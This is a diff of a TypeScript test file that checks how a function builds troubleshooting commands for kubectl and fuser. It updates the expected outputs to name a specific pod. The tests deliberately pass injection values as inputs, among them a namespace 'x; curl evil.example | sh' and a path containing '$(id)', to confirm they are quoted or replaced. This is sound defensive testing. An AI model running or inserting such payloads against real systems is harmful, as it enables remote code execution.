@@ -100,10 +100,10 @@ describe("nextStep", () => {
     const on = { kind: "Pod", namespace: "x; curl evil.example | sh", name: "web" };
     const status = { waiting: { reason: "WaitingForKubelet", message: "m", since: "2026-01-01T00:00:00Z", on } };
     const names = stepNamesOf({ ...intent, status } as NodeVolumeIntent);
-    expect(nextStep("WaitingForKubelet", names)).to.match(/kubectl -n 'x; curl evil\.example \| sh' describe pods$/);
+    expect(nextStep("WaitingForKubelet", names)).to.match(/kubectl -n 'x; curl evil\.example \| sh' describe pod web$/);
     expect(nextStep("TargetBusy", { node: "n", path: "/mnt/$(id)" })).to.match(/fuser -vm '\/mnt\/\$\(id\)'$/);
     for (const namespace of ["", "a\u001b[2K", "a\n"])
-      expect(nextStep("WaitingForKubelet", { namespace })).to.match(/kubectl -n NAMESPACE describe pods$/);
+      expect(nextStep("WaitingForKubelet", { namespace })).to.match(/kubectl -n NAMESPACE describe pod POD$/);
   });
 
   it("leaves in capitals what is not known, and has no brace left", () => {
